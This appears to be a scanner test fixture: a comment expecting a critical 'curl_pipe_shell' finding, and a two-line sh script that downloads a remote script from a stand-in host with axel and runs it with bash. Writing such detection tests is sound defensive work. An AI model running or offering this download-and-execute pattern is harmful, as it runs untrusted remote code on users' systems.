# expect: shell.curl_pipe_shell critical
#!/bin/sh
axel -q -o /tmp/i.sh https://get.example.net/i.sh
bash /tmp/i.sh
